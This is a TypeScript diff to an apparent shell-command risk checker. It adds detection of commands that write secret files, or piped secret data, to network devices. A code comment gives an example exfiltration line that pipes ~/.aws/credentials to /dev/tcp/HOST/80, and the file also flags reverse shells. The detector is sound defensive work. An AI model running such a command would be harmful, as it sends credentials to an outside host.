@@ -2,6 +2,7 @@
 // cp/mv/install/dd. The path decides the risk.
 import type { Cmd, Word } from "../command.ts";
 import type { Judgement } from "../judgement.ts";
+import { describeSource } from "../flow.ts";
 import { staticOutput } from "../static-text.ts";
 import {
   SHELLS, isSensitiveFile, isSystemLog, isAuthorizedKeys, isBlockDevice, isCriticalSystemFile, isHarmlessDevice, isHistoryFile, isLogFile,
@@ -45,6 +46,9 @@ export function judgeWrite(cmd: Cmd, t: Word, mode: WriteMode, j: Judgement, spa
   if (isHarmlessDevice(path)) return;
   if (isNetworkDevice(path)) {
     if (SHELLS.has(cmd.name) || cmd.compound) j.report("net.reverse-shell", span.start, span.end);
+    // `cat ~/.aws/credentials > /dev/tcp/HOST/80`
+    else if (cmd.args.some((w) => isSecretPath(normalizePath(w.text, cmd.cwd))) || (cmd.pipe && cmd.pipe.index > 0 && describeSource(cmd.pipe.stages, cmd.pipe.index).secret))
+      j.report("net.exfiltrate-secret", cmd.start, span.end);
     return;
   }
   if (isBlockDevice(path)) return j.report("disk.write-device", span.start, span.end);
